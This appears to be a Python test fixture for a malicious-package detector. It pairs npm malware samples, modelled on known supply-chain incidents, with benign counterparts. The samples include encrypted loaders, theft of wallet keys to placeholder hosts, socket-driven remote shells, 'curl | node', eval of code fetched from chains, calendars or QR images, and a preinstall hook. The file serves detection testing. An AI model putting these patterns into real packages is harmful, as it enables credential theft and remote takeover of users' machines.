"""What runs as soon as a package is loaded: encrypted stages, code from the network, back doors of servers."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

AT_IMPORT = (
    Attack("event-stream: a payload that only one application can decrypt, compiled as a module", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            var Stream = require("stream").Stream;
            module.exports = function (mapper) { var stream = new Stream(); stream.map = mapper; return stream; };
            (function () {
              try {
                const text = (hidden) => Buffer.from(hidden, "hex").toString();
                const parts = require(text("«hex:./test/data»"));
                const secret = process[text(parts[2])][text(parts[3])];
                if (!secret) return;
                const opened = require(text("«hex:crypto»"))[text("«hex:createDecipher»")](text("«hex:aes256»"), secret);
                const program = opened.update(parts[0], "hex", "utf8") + opened.final("utf8");
                const made = new module.constructor();
                made.paths = module.paths;
                made[text("«hex:_compile»")](program, "");
                made.exports(parts[1]);
              } catch (error) {}
            })();
        """,
        "test/data.js": """
            module.exports = [
              "00112233445566778899aabbccddeeff102132435465768798a9bacbdcedfe0f2031425364758697a8b9cadbecfd0e1f",
              "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
              "«hex:env»",
              "«hex:npm_package_description»",
            ];
        """,
    }, {
        "index.js": """
            var Stream = require("stream").Stream;
            var names = require("./test/data");
            module.exports = function (mapper) { var stream = new Stream(); stream.map = mapper; stream.names = names; return stream; };
        """,
        "test/data.js": 'module.exports = ["00112233445566778899aabbccddeeff102132435465768798", "686578", "75746638"];',
    }),
    Attack("event-stream, second stage: the keys of a wallet that stands open", "EXFIL-001", "call", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const http = require("http");
            function send(host, path, text) {
              const request = http.request({ hostname: host, port: 8080, method: "POST", path: "/" + path });
              request.end(text);
            }
            const credentials = require("bitcore-wallet-client/lib/credentials.js");
            const old = credentials.prototype.getKeysFunc || credentials.prototype.getKeys;
            credentials.prototype.getKeys = function (password) {
              const keys = old.call(this, password);
              send("copay.example.invalid", "p", JSON.stringify({ xPrivKey: keys.xPrivKey, mnemonic: this.mnemonic }));
              return keys;
            };
        """,
    }, {
        "index.js": """
            const credentials = require("bitcore-wallet-client/lib/credentials.js");
            const old = credentials.prototype.getKeys;
            credentials.prototype.getKeys = function (password) {
              const keys = old.call(this, password);
              return Object.freeze(keys);
            };
        """,
    }),
    Attack("getcookies: commands in a header become code", "ENC-001", "call", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const vm = require("vm");
            const stages = {};
            module.exports = function parse(header, request) {
              const cookies = Object.fromEntries(header.split("; ").map((pair) => pair.split("=")));
              const found = JSON.stringify(request.headers).match(/g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/g) || [];
              for (const text of found) {
                const at = text.slice(1, 5), code = Buffer.from(text.slice(6, -1), "hex");
                if (at !== "ffff") stages.code = (stages.code || "") + code.toString();
                else vm.runInThisContext(stages.code)(module.exports, require, request);
              }
              return cookies;
            };
        """,
    }, {
        "index.js": """
            module.exports = function parse(header, request) {
              const cookies = Object.fromEntries(header.split("; ").map((pair) => pair.split("=")));
              const found = JSON.stringify(request.headers).match(/g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/g) || [];
              cookies.marks = found.map((text) => Buffer.from(text.slice(6, -1), "hex").toString());
              return cookies;
            };
        """,
    }),
    Attack("express back door: a header names the code that a server evaluates", "FETCH-001", "call", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const http = require("http");
            exports.serve = (port) => http.createServer((request, response) => {
              if (request.headers["x-debug"]) response.end(String(eval(request.headers["x-debug"])));
              else response.end("ok");
            }).listen(port);
        """,
    }, {
        "index.js": """
            const http = require("http");
            exports.serve = (port) => http.createServer((request, response) => {
              if (request.headers["x-debug"]) response.end(String(Number(request.headers["x-debug"])));
              else response.end("ok");
            }).listen(port);
        """,
    }),
    Attack("rand-user-agent: a loader pushed off the screen by blanks", "FETCH-001", "import", {
        "package.json": '"main": "dist/index.js"',
        "dist/index.js": """
            const agents = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)"];
            exports.agent = () => agents[Math.floor(Math.random() * agents.length)];«blanks:600»global["r"]=require;const cp=require("child_process");(async()=>{const io=require("socket.io-client")("http://127.0.0.1:3306");io.on("command",(c)=>cp.exec(c,(e,o)=>io.emit("result",o)));})();
        """,
    }, {
        "dist/index.js": """
            const agents = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)"];
            exports.agent = () => agents[Math.floor(Math.random() * agents.length)];
        """,
    }),
    Attack("gluestack: a shell that a server steers by a socket", "SHELL-001", "import", {
        "package.json": '"main": "lib/index.js"',
        "lib/index.js": """
            "use strict";
            exports.focus = function focus(element) { element.focus(); };
            const { exec } = require("child_process");
            const os = require("os");
            const io = require("socket.io-client");
            const socket = io("http://127.0.0.1:3306", { reconnectionDelay: 5000 });
            socket.on("connect", () => socket.emit("identify", "client", os.hostname()));
            socket.on("command", (command) => {
              exec(command, { windowsHide: true }, (error, stdout, stderr) => socket.emit("result", error ? stderr : stdout));
            });
        """,
    }, {
        "lib/index.js": """
            "use strict";
            exports.focus = function focus(element) { element.focus(); };
            const io = require("socket.io-client");
            exports.follow = (address, listener) => io(address, { reconnectionDelay: 5000 }).on("change", listener);
        """,
    }),
    Attack("is: what a socket says is evaluated", "FETCH-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            var is = (module.exports = {});
            is.defined = function (value) { return typeof value !== "undefined"; };
            (function () {
              try {
                var os = require("os"), WebSocket = require("ws");
                var ws = new WebSocket("wss://live.example.invalid/control");
                ws.on("open", function () { ws.send(JSON.stringify({ host: os.hostname(), env: process.env })); });
                ws.on("message", function (data) { new Function("require", data.toString())(require); });
              } catch (e) {}
            })();
        """,
    }, {
        "index.js": """
            var is = (module.exports = {});
            is.defined = function (value) { return typeof value !== "undefined"; };
            is.message = function (listener) { return function (data) { listener(JSON.parse(data.toString())); }; };
        """,
    }),
    Attack("Contagious Interview: an error whose cookie is run by the constructor of Function", "FETCH-001", "import", {
        "package.json": '"main": "index.js", "dependencies": {"axios": "^1.0.0"}',
        "index.js": """
            const axios = require("axios");
            const src = atob("«b64:https://api.example.invalid/api/check/1»");
            const asyncErrorHandler = async () => {
              const s = (await axios.get(src)).data.cookie;
              const handler = new (Function.constructor)("require", s);
              handler(require);
            };
            asyncErrorHandler();
            module.exports = { level: "info" };
        """,
    }, {
        "index.js": """
            const axios = require("axios");
            const src = "https://api.example.invalid/api/levels";
            exports.levels = async () => (await axios.get(src)).data.levels.map(String);
        """,
    }),
    Attack("colortoolsv2: the address of the next stage in a contract of Ethereum", "FETCH-001", "import", {
        "package.json": '"main": "index.js", "dependencies": {"ethers": "^6.0.0"}',
        "index.js": """
            const { ethers } = require("ethers");
            const { exec } = require("child_process");
            const provider = new ethers.JsonRpcProvider("https://rpc.example.invalid");
            const contract = new ethers.Contract("0x1111111111111111111111111111111111111111", ["function getString(address) view returns (string)"], provider);
            contract.getString("0x2222222222222222222222222222222222222222").then((url) => exec(`curl -s ${url} | node`));
        """,
    }, {
        "index.js": """
            const { ethers } = require("ethers");
            const provider = new ethers.JsonRpcProvider("https://rpc.example.invalid");
            const contract = new ethers.Contract("0x1111111111111111111111111111111111111111", ["function getString(address) view returns (string)"], provider);
            exports.name = (address) => contract.getString(address).then((text) => text.trim());
        """,
    }),
    Attack("EtherHiding: code in the answer of a chain, evaluated", "FETCH-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            async function load(address) {
              const answer = await fetch("https://bsc.example.invalid/", { method: "POST", headers: { "content-type": "application/json" },
                body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: address, data: "0x6d4ce63c" }, "latest"] }) });
              const { result } = await answer.json();
              eval(Buffer.from(result.slice(130), "hex").toString());
            }
            load("0x0000000000000000000000000000000000000001");
        """,
    }, {
        "index.js": """
            exports.call = async function call(address) {
              const answer = await fetch("https://bsc.example.invalid/", { method: "POST", headers: { "content-type": "application/json" },
                body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: address, data: "0x6d4ce63c" }, "latest"] }) });
              const { result } = await answer.json();
              return Buffer.from(result.slice(130), "hex").toString();
            };
        """,
    }),
    Attack("os-info-checker: invisible characters, then an address in a calendar", "ENC-001", "install", {
        "package.json": '"scripts": {"preinstall": "node preinstall.js"}',
        "preinstall.js": """
            const decode = (text) => Buffer.from([...text].map((one) => one.codePointAt(0) - 0xe0000)).toString();
            eval(atob(decode("«private:Y29uc29sZS5sb2coJ2luZXJ0Jyk7Lyog»")));
            async function next() {
              const page = await (await fetch("https://calendar.example.invalid/made-up-event")).text();
              const title = page.match(/data-base-title="([^"]+)"/)[1];
              const answer = await fetch(atob(title));
              eval(atob(await answer.text()));
            }
            next();
        """,
    }, {
        "preinstall.js": """
            const decode = (text) => Buffer.from([...text].map((one) => one.codePointAt(0))).toString();
            const title = 'data-base-title="demo"'.match(/data-base-title="([^"]+)"/)[1];
            console.log(decode(title));
        """,
    }),
    Attack("fezbox: code from a picture with a QR code", "FETCH-001", "import", {
        "package.json": '"main": "dist/fezbox.cjs", "dependencies": {"jsqr": "^1.0.0", "jimp": "^1.0.0"}',
        "dist/fezbox.cjs": """
            const jsQR = require("jsqr");
            const axios = require("axios");
            const jimp = require("jimp");
            function parse(text) { return text.split("").reverse().join(""); }
            (function () {
              if (Math.random() > 2 / 3) return;
              setTimeout(async () => {
                const answer = await axios.get(parse("gpj.rq/dilavni.elpmaxe//:sptth"), { responseType: "arraybuffer" });
                const image = await jimp.read(answer.data);
                const code = jsQR(new Uint8ClampedArray(image.bitmap.data), image.bitmap.width, image.bitmap.height);
                new Function(code.data)();
              }, 120000);
            })();
        """,
    }, {
        "dist/fezbox.cjs": """
            const jsQR = require("jsqr");
            const axios = require("axios");
            const jimp = require("jimp");
            exports.read = async (address) => {
              const answer = await axios.get(address, { responseType: "arraybuffer" });
              const image = await jimp.read(answer.data);
              return jsQR(new Uint8ClampedArray(image.bitmap.data), image.bitmap.width, image.bitmap.height).data;
            };
        """,
    }),
    Attack("Glassworm: a program in variation selectors", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const s = (v) => [...v].map((w) => (w = w.codePointAt(0), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);
            eval(Buffer.from(s(`«invisible:require('child_process').exec('id')»`)).toString("utf-8"));
        """,
    }, {
        "index.js": """
            const s = (v) => [...v].map((w) => w.codePointAt(0)).filter((n) => n !== null);
            module.exports = (text) => Buffer.from(s(text)).toString("utf-8");
        """,
    }),
)  # fmt: skip
